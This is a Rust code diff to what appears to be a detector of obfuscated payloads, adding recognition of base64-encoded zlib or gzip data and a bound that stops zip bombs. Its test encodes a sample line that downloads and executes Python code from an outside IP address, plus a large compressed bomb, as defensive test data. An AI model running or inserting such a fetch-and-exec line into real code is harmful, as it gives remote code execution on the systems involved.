@@ -12,6 +12,8 @@ use regex::bytes::Regex;
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub(crate) enum Encoding {
     Base64,
+    /// Base64 of zlib or gzip data (`exec(zlib.decompress(b64decode(…)))`).
+    CompressedBase64,
     Hex,
     CharCodes,
     Reversed,
@@ -28,6 +30,7 @@ impl Encoding {
     pub fn name(self) -> &'static str {
         match self {
             Encoding::Base64 => "base64",
+            Encoding::CompressedBase64 => "compressed base64",
             Encoding::Hex => "hex",
             Encoding::CharCodes => "char codes",
             Encoding::Reversed => "reversed string",
@@ -229,6 +232,7 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
     } else {
         Vec::new()
     };
+    let mut inflated = 0;
     for (start, end) in runs {
         let run = &line[start..end];
         // data: URIs hold images and fonts, not code: one whose binary type
@@ -243,9 +247,12 @@ pub(crate) fn decode_line(line: &[u8], budget: &mut usize) -> Vec<Decoded> {
                 continue;
             }
         }
-        if let Some(text) = decode_base64(run) {
-            let text = strip_utf16(text);
-            push(Encoding::Base64, text, &mut out);
+        if let Some(bytes) = decode_base64(run) {
+            // Inflating costs up to MAX_INFLATED: a few per line.
+            let may_inflate = inflated < MAX_PER_LINE;
+            inflated += usize::from(may_inflate);
+            let (encoding, text) = base64_payload(bytes, may_inflate);
+            push(encoding, text, &mut out);
         }
     }
     // Both escape forms need a backslash: one search rules out both.
@@ -425,18 +432,13 @@ pub(crate) fn decode_split_strings<'a>(
             if *count >= 2
                 && joined.len() >= MIN_BASE64
                 && out.len() < MAX_PER_LINE
-                && let Some(text) = decode_base64(joined).map(strip_utf16)
+                && let Some((encoding, text)) =
+                    decode_base64(joined).map(|b| base64_payload(b, true))
                 && text.len() <= *budget
                 && looks_like_text(&text)
             {
                 *budget -= text.len();
-                out.push((
-                    first,
-                    Decoded {
-                        encoding: Encoding::Base64,
-                        text,
-                    },
-                ));
+                out.push((first, Decoded { encoding, text }));
             }
             joined.clear();
             *count = 0;
@@ -750,6 +752,36 @@ fn decode_base64(run: &[u8]) -> Option<Vec<u8>> {
     engine.decode(usable).ok()
 }
 
+/// Largest text inflated from one compressed payload: a zip bomb in a
+/// string stops here.
+const MAX_INFLATED: u64 = 256 * 1024;
+
+/// What decoded base64 holds: UTF-16 narrowed, zlib or gzip inflated.
+fn base64_payload(bytes: Vec<u8>, may_inflate: bool) -> (Encoding, Vec<u8>) {
+    match may_inflate.then(|| inflate(&bytes)).flatten() {
+        Some(text) => (Encoding::CompressedBase64, text),
+        None => (Encoding::Base64, strip_utf16(bytes)),
+    }
+}
+
+/// zlib (`78 01|5e|9c|da`) or gzip (`1f 8b`) data inflated, at most
+/// `MAX_INFLATED` bytes; None for anything else or a stream that fails.
+fn inflate(bytes: &[u8]) -> Option<Vec<u8>> {
+    use std::io::Read as _;
+    let mut out = Vec::new();
+    let read = match bytes {
+        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => flate2::read::ZlibDecoder::new(bytes)
+            .take(MAX_INFLATED)
+            .read_to_end(&mut out),
+        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
+            .take(MAX_INFLATED)
+            .read_to_end(&mut out),
+        _ => return None,
+    };
+    // A truncated stream still gives what it inflated so far.
+    (read.is_ok() || !out.is_empty()).then_some(out)
+}
+
 /// PowerShell `-EncodedCommand` is UTF-16LE.
 fn strip_utf16(text: Vec<u8>) -> Vec<u8> {
     if text.len() >= 8 && text.iter().skip(1).step_by(2).all(|&b| b == 0) {
@@ -888,6 +920,34 @@ mod tests {
         assert_eq!(found.len(), 1, "{shown:?}");
         assert_eq!(found[0].0, 2);
         assert!(String::from_utf8_lossy(&found[0].1.text).contains("t.example"));
+    }
+
+    #[test]
+    fn compressed_base64_is_inflated_and_a_bomb_stops_at_its_bound() {
+        use base64::Engine;
+        use std::io::Write as _;
+        let compress = |text: &[u8]| {
+            let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+            z.write_all(text).unwrap();
+            z.finish().unwrap()
+        };
+        let code = b"exec(urlopen('http://203.0.113.34/p.py').read())\n";
+        let blob = base64::engine::general_purpose::STANDARD.encode(compress(code));
+        let mut budget = 1 << 20;
+        let found = decode_line(format!("_RT = \"{blob}\"").as_bytes(), &mut budget);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].encoding, Encoding::CompressedBase64);
+        assert_eq!(found[0].text, code);
+        // 64 MiB of one letter, a few KiB compressed: inflated to the bound.
+        let mut z = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        let chunk = vec![b'a'; 1 << 20];
+        for _ in 0..64 {
+            z.write_all(&chunk).unwrap();
+        }
+        let bomb = z.finish().unwrap();
+        let (encoding, text) = base64_payload(bomb, true);
+        assert_eq!(encoding, Encoding::CompressedBase64);
+        assert_eq!(text.len() as u64, MAX_INFLATED);
     }
 
     #[test]
